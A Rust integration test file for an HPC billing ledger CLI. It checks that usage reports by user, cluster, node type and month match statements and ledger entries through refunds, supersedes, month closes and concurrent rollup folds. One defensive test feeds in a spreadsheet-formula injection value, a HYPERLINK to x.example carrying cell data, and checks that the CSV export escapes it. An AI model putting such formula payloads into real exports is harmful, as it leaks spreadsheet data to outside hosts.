//! `hpc-ledger usage` (issue 18, item 2): sums from the ledger, by user,
//! cluster, node type and month, that agree with the statements.

use rust_decimal::Decimal;

use crate::harness::{TestDb, cli_with_env, close_by_hand, ok, stderr, stdout};

async fn sample() -> TestDb {
    let db = TestDb::with_example().await;
    let jobs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/jobs");
    ok(&db.cli(&[
        "import",
        "--format",
        "slurm",
        jobs.join("owens-sacct.txt").to_str().unwrap(),
    ]));
    ok(&db.cli(&["import", "--format", "jsonl", jobs.join("jobs.jsonl").to_str().unwrap()]));
    ok(&db.cli(&["bill", "storage", "--through", "2026-10"]));
    db
}

/// One row of a CSV usage report: project, key, jobs and amount (the last column).
struct Row {
    project: String,
    key: String,
    jobs: i64,
    amount: Decimal,
}

fn rows(csv: &str) -> Vec<Row> {
    csv.lines()
        .skip(1)
        .map(|l| {
            let cells: Vec<&str> = l.split(',').collect();
            Row {
                project: cells[0].to_owned(),
                key: cells[1].to_owned(),
                jobs: cells[2].parse().unwrap(),
                amount: cells.last().unwrap().parse().unwrap(),
            }
        })
        .collect()
}

/// `key, amount` of each row.
fn amounts(csv: &str) -> Vec<(String, Decimal)> {
    rows(csv).into_iter().map(|r| (r.key, r.amount)).collect()
}

#[tokio::test]
async fn usage_sums_agree_with_the_statements_and_follow_corrections() {
    let db = sample().await;
    // A refund of half of ada's owens/1002 (30 core-hours, 0.36): -15 core-hours, -0.18.
    ok(&db.cli(&[
        "refund",
        "--cluster",
        "owens",
        "--job-id",
        "1002",
        "--fraction",
        "0.5",
        "--reason",
        "slow disk",
        "--month",
        "2026-10",
    ]));
    // By month: each month's amount is the month's statement total.
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-01",
        "--to",
        "2026-10",
        "--by",
        "month",
        "--format",
        "csv",
    ]));
    assert!(
        csv.starts_with("project,month,jobs,core_hours,gpu_hours,tb_months,amount\n"),
        "{csv}"
    );
    let months = amounts(&csv);
    assert_eq!(months.len(), 10, "{csv}");
    for (month, amount) in &months {
        let json: serde_json::Value = serde_json::from_str(&ok(&db.cli(&[
            "statement",
            "--project",
            "PAS1234",
            "--month",
            month,
            "--format",
            "json",
        ])))
        .unwrap();
        assert_eq!(
            json["total"].as_str().unwrap().parse::<Decimal>().unwrap(),
            *amount,
            "{month}"
        );
    }
    // By user: the refund is ada's; storage is its own row; the sum is the same.
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--by",
        "user",
        "--format",
        "csv",
    ]));
    let users = amounts(&csv);
    let total: Decimal = users.iter().map(|(_, a)| *a).sum();
    assert_eq!(total, months.last().unwrap().1, "{csv}");
    assert!(users.iter().any(|(u, _)| u == "(storage)"), "{csv}");
    let ada = csv.lines().find(|l| l.starts_with("PAS1234,ada,")).expect("ada's row");
    let (direct,): (Decimal,) = sqlx::query_as(
        "SELECT sum(e.quantity) FROM ledger_entry e
           LEFT JOIN ledger_entry o ON o.id = e.corrects_id
           JOIN job_record r ON r.id = coalesce(e.job_record_id, o.job_record_id)
           JOIN project p ON p.id = e.project_id
          WHERE p.code = 'PAS1234' AND e.period = '2026-10-01' AND r.user_name = 'ada' AND e.metric = 'core_hours'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert_eq!(
        ada.split(',').nth(3).unwrap().parse::<Decimal>().unwrap(),
        direct,
        "{ada}"
    );
    // By node type, every project: GPU-hours where GPUs ran.
    let out = ok(&db.cli(&["usage", "--all", "--from", "2026-10", "--by", "node-type"]));
    assert!(out.lines().any(|l| l.starts_with("PAA0042  owens/gpu")), "{out}");
    assert!(out.contains("total 2026-10: "), "{out}");
    let json: serde_json::Value = serde_json::from_str(&ok(&db.cli(&[
        "usage", "--all", "--from", "2026-10", "--by", "cluster", "--format", "json",
    ])))
    .unwrap();
    assert_eq!(json["by"], "cluster");
    assert!(json["rows"].as_array().unwrap().iter().any(|r| r["key"] == "pitzer"));

    // Bad input says what is wrong.
    let o = db.cli(&["usage", "--project", "PAS1243", "--from", "2026-10", "--by", "user"]);
    assert!(
        stderr(&o).contains("unknown project \"PAS1243\" (did you mean PAS1234?)"),
        "{}",
        stderr(&o)
    );
    let o = db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--to",
        "2026-09",
        "--by",
        "user",
    ]);
    assert!(
        stderr(&o).contains("--from 2026-10 is after --to 2026-09"),
        "{}",
        stderr(&o)
    );
}

/// `jobs, amount` of `key`'s row in a CSV usage report (`None`: no row).
fn row(csv: &str, key: &str) -> Option<(i64, Decimal)> {
    rows(csv).into_iter().find(|r| r.key == key).map(|r| (r.jobs, r.amount))
}

#[tokio::test]
async fn a_supersede_moves_the_job_and_its_charge_and_closing_keeps_every_sum() {
    let db = sample().await;
    let env = [("DATABASE_URL", db.url.as_str())];
    let by = |what: &str| {
        ok(&db.cli(&[
            "usage",
            "--project",
            "PAS1234",
            "--from",
            "2026-10",
            "--by",
            what,
            "--format",
            "csv",
        ]))
    };
    let (ada_jobs, ada_amount) = row(&by("user"), "ada").expect("ada's row");
    assert_eq!(row(&by("user"), "grace"), None);
    // One more job of ada's on owens (2 cores for 2 hours) ...
    let job = r#"{"cluster": "owens", "job_id": "7001", "project": "PAS1234", "user": "ada", "queue": "batch",
                 "cores": 2, "submit": "2026-10-22T08:00:00-04:00", "start": "2026-10-22T08:00:00-04:00",
                 "end": "2026-10-22T10:00:00-04:00", "state": "COMPLETED"}"#
        .replace('\n', " ");
    ok(&cli_with_env(&["job", "record", "--json"], &env, Some(&job)));
    let (jobs, amount) = row(&by("user"), "ada").unwrap();
    assert_eq!(jobs, ada_jobs + 1);
    let first = amount - ada_amount;
    assert!(first > Decimal::ZERO, "{first}");
    // ... then sent again as grace's with 4 cores: the old charge is reversed
    // (ada's again, one job fewer), the new one is grace's.
    let changed = job
        .replace("\"ada\"", "\"grace\"")
        .replace("\"cores\": 2", "\"cores\": 4");
    ok(&cli_with_env(
        &["job", "record", "--json", "--supersede"],
        &env,
        Some(&changed),
    ));
    let users = by("user");
    assert_eq!(row(&users, "ada"), Some((ada_jobs, ada_amount)), "{users}");
    let (grace_jobs, grace_amount) = row(&users, "grace").expect("grace's row");
    let (charged,): (Decimal,) = sqlx::query_as(
        "SELECT sum(e.amount) FROM ledger_entry e JOIN job_record r ON r.id = e.job_record_id
          WHERE r.kind = 'supersede' AND e.kind = 'job'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert!(charged > first, "{charged} for 4 cores, {first} for 2");
    assert_eq!((grace_jobs, grace_amount), (1, charged), "{users}");
    // Every sum is the ledger's, read straight from the entries.
    let (direct, direct_jobs): (Decimal, i64) = sqlx::query_as(
        "SELECT sum(e.amount), count(*) FILTER (WHERE e.kind = 'job')
                                 - count(*) FILTER (WHERE e.kind = 'reversal' AND o.kind = 'job')
           FROM ledger_entry e JOIN project p ON p.id = e.project_id
           LEFT JOIN ledger_entry o ON o.id = e.corrects_id
          WHERE p.code = 'PAS1234' AND e.period = '2026-10-01'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    let all = rows(&users);
    assert_eq!(all.iter().map(|r| r.jobs).sum::<i64>(), direct_jobs, "{users}");
    assert_eq!(all.iter().map(|r| r.amount).sum::<Decimal>(), direct, "{users}");

    // A job is counted once, whether or not it held GPUs (a GPU job has a
    // core-hours and a GPU-hours line): every project's count in October
    // is its number of runs charged (none of the others was recorded again).
    let all = ok(&db.cli(&["usage", "--all", "--from", "2026-10", "--by", "user", "--format", "csv"]));
    let counted: std::collections::BTreeMap<String, i64> =
        rows(&all).into_iter().fold(Default::default(), |mut m, r| {
            *m.entry(r.project).or_default() += r.jobs;
            m
        });
    let runs: Vec<(String, i64)> = sqlx::query_as(
        "SELECT p.code, count(DISTINCT r.job_id)
           FROM ledger_entry e JOIN project p ON p.id = e.project_id JOIN job_record r ON r.id = e.job_record_id
          WHERE e.kind = 'job' AND e.period = '2026-10-01'
            AND NOT EXISTS (SELECT 1 FROM ledger_entry v WHERE v.corrects_id = e.id AND v.kind = 'reversal')
          GROUP BY p.code ORDER BY 1",
    )
    .fetch_all(&db.pool)
    .await
    .unwrap();
    assert!(runs.iter().any(|(p, _)| p == "PAA0042"), "{runs:?}");
    assert_eq!(runs, counted.into_iter().collect::<Vec<_>>(), "{all}");
    let (gpu_jobs,): (i64,) = sqlx::query_as(
        "SELECT count(DISTINCT r.job_id) FROM ledger_entry e JOIN job_record r ON r.id = e.job_record_id
          WHERE e.metric = 'gpu_hours' AND e.period = '2026-10-01'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert!(gpu_jobs > 0, "the sample holds a GPU job");

    // Closing October folds its rows to one per key and changes no report.
    let reports: Vec<String> = ["user", "cluster", "node-type", "class", "month"]
        .iter()
        .map(|b| by(b))
        .collect();
    let rows = |p: &sqlx::PgPool| {
        let p = p.clone();
        async move {
            sqlx::query_as::<_, (i64, i64)>(
                "SELECT count(*), count(DISTINCT (project_id, kind, user_name, cluster_id, node_type_id,
                                                  rate_card_id, storage_rate_id))
                   FROM ledger_usage WHERE period = '2026-10-01'",
            )
            .fetch_one(&p)
            .await
            .unwrap()
        }
    };
    let (before, _) = rows(&db.pool).await;
    for month in 1..=10 {
        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
    }
    let (after, keys) = rows(&db.pool).await;
    assert!(
        before > after && after == keys,
        "{before} rows folded to {after} for {keys} keys"
    );
    let again: Vec<String> = ["user", "cluster", "node-type", "class", "month"]
        .iter()
        .map(|b| by(b))
        .collect();
    assert_eq!(reports, again);

    // The audit sums the entries again: a month whose kept sums no longer
    // match them is a finding (expected: the entries' sum, {direct}).
    let o = db.cli(&["audit"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    sqlx::query(
        "UPDATE ledger_usage SET amount = amount + 1
          WHERE ctid = (SELECT ctid FROM ledger_usage WHERE period = '2026-10-01' AND user_name = 'grace')",
    )
    .execute(&db.pool)
    .await
    .unwrap();
    let o = db.cli(&["audit", "--month", "2026-10"]);
    assert_ne!(o.status.code(), Some(0));
    let out = stdout(&o);
    let finding = out.lines().find(|l| l.contains("usage sums")).unwrap_or_default();
    assert!(
        finding.contains("2026-10") && finding.contains("PAS1234") && finding.contains(&format!("{direct}")),
        "{out}"
    );
}

/// A user name a spreadsheet would run as a formula (a JSON record's user
/// is whatever its source wrote) reaches a CSV report as text.
#[tokio::test]
async fn a_user_name_that_looks_like_a_formula_is_text_in_csv() {
    let db = TestDb::with_example().await;
    let job = r#"{"cluster": "owens", "job_id": "9001", "project": "PAS1234", "user": "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "job_name": "-2+3+cmd", "queue": "batch", "cores": 1, "submit": "2026-10-20T08:00:00-04:00", "start": "2026-10-20T08:00:00-04:00", "end": "2026-10-20T09:00:00-04:00", "state": "COMPLETED", "exit_code": "0"}"#;
    let o = cli_with_env(&["job", "record", "--json"], &[("DATABASE_URL", &db.url)], Some(job));
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = ok(&db.cli(&[
        "usage",
        "--project",
        "PAS1234",
        "--from",
        "2026-10",
        "--by",
        "user",
        "--format",
        "csv",
    ]));
    let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap_or_default();
    assert!(
        row.starts_with("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1") || row.contains(",\"'=HYPERLINK("),
        "{csv}"
    );
    // The text report shows the name as it is.
    let text = ok(&db.cli(&["usage", "--project", "PAS1234", "--from", "2026-10", "--by", "user"]));
    assert!(text.contains("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"), "{text}");
}

/// Rows of each rollup: (folded, not folded), and whether every key has at
/// most one folded row.
async fn rollup_rows(pool: &sqlx::PgPool) -> [(i64, i64, bool); 2] {
    let draw: (i64, i64, bool) = sqlx::query_as(
        "SELECT count(*) FILTER (WHERE folded), count(*) FILTER (WHERE NOT folded),
                count(*) FILTER (WHERE folded) = count(DISTINCT (project_id, cluster_id, period, day))
                                                     FILTER (WHERE folded)
           FROM ledger_draw",
    )
    .fetch_one(pool)
    .await
    .unwrap();
    let usage: (i64, i64, bool) = sqlx::query_as(
        "SELECT count(*) FILTER (WHERE folded), count(*) FILTER (WHERE NOT folded),
                count(*) FILTER (WHERE folded)
                  = count(DISTINCT (project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id,
                                    storage_rate_id)) FILTER (WHERE folded)
           FROM ledger_usage",
    )
    .fetch_one(pool)
    .await
    .unwrap();
    [draw, usage]
}

/// Every key's sums in `ledger_usage` against the entries summed again
/// (`audit.entry_usage`): the keys whose sums differ.
async fn usage_keys_off(pool: &sqlx::PgPool) -> i64 {
    sqlx::query_scalar(
        "WITH kept AS (
             SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id, storage_rate_id,
                    sum(jobs) AS jobs, sum(core_hours) AS ch, sum(amount) AS amount, sum(entries) AS n
               FROM ledger_usage GROUP BY 1, 2, 3, 4, 5, 6, 7, 8),
         direct AS (
             SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id, storage_rate_id,
                    sum(jobs) AS jobs, sum(core_hours) AS ch, sum(amount) AS amount, count(*) AS n
               FROM audit.entry_usage GROUP BY 1, 2, 3, 4, 5, 6, 7, 8)
         SELECT count(*) FROM kept k FULL JOIN direct d
             ON (k.project_id, k.period, k.kind) = (d.project_id, d.period, d.kind)
            AND k.user_name IS NOT DISTINCT FROM d.user_name AND k.cluster_id IS NOT DISTINCT FROM d.cluster_id
            AND k.node_type_id IS NOT DISTINCT FROM d.node_type_id
            AND k.rate_card_id IS NOT DISTINCT FROM d.rate_card_id
            AND k.storage_rate_id IS NOT DISTINCT FROM d.storage_rate_id
          WHERE (k.jobs, k.ch, k.amount, k.n) IS DISTINCT FROM (d.jobs, d.ch, d.amount, d.n)",
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

/// Issue 19, item 2 (migration 0042): the rollup rows a posting appends are
/// folded after each import and storage billing run, so a month's close
/// folds only what came after; folding changes no sum and no report.
#[tokio::test]
async fn rollups_are_folded_after_each_import_and_the_close_folds_the_rest() {
    let db = sample().await;
    // Two imports and a storage run, each folded when it finished: nothing
    // is left unfolded, and every key has one folded row.
    let [draw, usage] = rollup_rows(&db.pool).await;
    assert!(draw.0 > 0 && usage.0 > 0, "{draw:?} {usage:?}");
    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
    assert_eq!(usage_keys_off(&db.pool).await, 0);

    // A refund is one posting, not a bulk write: its rows wait, appended.
    let report = |db: &TestDb| {
        ok(&db.cli(&[
            "usage",
            "--project",
            "PAS1234",
            "--from",
            "2026-01",
            "--to",
            "2026-11",
            "--by",
            "user",
            "--format",
            "csv",
        ]))
    };
    let before = report(&db);
    ok(&db.cli(&[
        "refund",
        "--cluster",
        "owens",
        "--job-id",
        "1002",
        "--fraction",
        "0.5",
        "--reason",
        "slow disk",
        "--month",
        "2026-10",
    ]));
    let [draw, usage] = rollup_rows(&db.pool).await;
    assert!(draw.1 > 0 && usage.1 > 0, "{draw:?} {usage:?}");
    let unfolded = draw.1 + usage.1;
    let refunded = report(&db);
    assert_ne!(refunded, before, "the refund shows before it is folded");
    assert_eq!(usage_keys_off(&db.pool).await, 0);
    ok(&db.cli(&["audit"]));
    // A fold of another month leaves October's rows; a fold of every month
    // moves them into their keys' rows, and the report is the same.
    let fold = |month: Option<&'static str>| {
        let pool = db.pool.clone();
        async move {
            sqlx::query_scalar::<_, i64>("SELECT hl_fold_rollups($1::date)")
                .bind(month)
                .fetch_one(&pool)
                .await
                .unwrap()
        }
    };
    assert_eq!(fold(Some("2026-09-01")).await, 0);
    assert_eq!(fold(None).await, unfolded);
    let [draw, usage] = rollup_rows(&db.pool).await;
    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
    assert_eq!(report(&db), refunded);
    assert_eq!(usage_keys_off(&db.pool).await, 0);
    ok(&db.cli(&["audit"]));

    // Another refund into October: the close of October folds it.
    ok(&db.cli(&[
        "refund",
        "--cluster",
        "owens",
        "--job-id",
        "1002",
        "--fraction",
        "0.25",
        "--reason",
        "node fault",
        "--month",
        "2026-10",
    ]));
    assert!(rollup_rows(&db.pool).await.iter().all(|r| r.1 > 0));
    let again = report(&db);
    for month in 1..=10 {
        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
    }
    let [draw, usage] = rollup_rows(&db.pool).await;
    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
    assert_eq!(report(&db), again);
    assert_eq!(usage_keys_off(&db.pool).await, 0);
    ok(&db.cli(&["audit"]));
}

/// Folds run one at a time, beside postings that append: however they
/// interleave, no appended row is lost or counted twice.
#[tokio::test]
async fn concurrent_folds_and_appends_lose_and_double_nothing() {
    let db = sample().await;
    let total = |pool: sqlx::PgPool| async move {
        sqlx::query_as::<_, (Decimal, Decimal, i64)>(
            "SELECT (SELECT sum(amount) FROM ledger_usage), (SELECT sum(amount) FROM ledger_draw),
                    (SELECT count(*) FROM ledger_usage WHERE NOT folded)
                  + (SELECT count(*) FROM ledger_draw WHERE NOT folded)",
        )
        .fetch_one(&pool)
        .await
        .unwrap()
    };
    let (usage0, draw0, _) = total(db.pool.clone()).await;
    // Writers append a copy of a random folded row with amount 0.01, one
    // transaction each, as the insert trigger would; folders fold.
    let mut tasks = Vec::new();
    for _ in 0..3 {
        let pool = db.pool.clone();
        tasks.push(tokio::spawn(async move {
            for _ in 0..40 {
                sqlx::raw_sql(
                    "INSERT INTO ledger_usage (project_id, period, kind, user_name, cluster_id, node_type_id,
                                               rate_card_id, storage_rate_id, jobs, core_hours, gpu_hours,
                                               tb_months, amount, entries)
                     SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id,
                            storage_rate_id, 0, 0, 0, 0, 0.01, 0
                       FROM ledger_usage WHERE folded ORDER BY random() LIMIT 1;
                     INSERT INTO ledger_draw (project_id, cluster_id, period, day, first_at, last_at, amount,
                                              entries)
                     SELECT project_id, cluster_id, period, day, first_at, last_at, 0.01, 0
                       FROM ledger_draw WHERE folded ORDER BY random() LIMIT 1",
                )
                .execute(&pool)
                .await
                .unwrap();
            }
        }));
    }
    for _ in 0..3 {
        let pool = db.pool.clone();
        tasks.push(tokio::spawn(async move {
            for _ in 0..20 {
                sqlx::query("SELECT hl_fold_rollups()").execute(&pool).await.unwrap();
            }
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    sqlx::query("SELECT hl_fold_rollups()").execute(&db.pool).await.unwrap();
    let (usage1, draw1, unfolded) = total(db.pool.clone()).await;
    let added = Decimal::new(120, 2);
    assert_eq!((usage1 - usage0, draw1 - draw0, unfolded), (added, added, 0));
    let [draw, usage] = rollup_rows(&db.pool).await;
    assert!(draw.2 && usage.2, "{draw:?} {usage:?}");
}
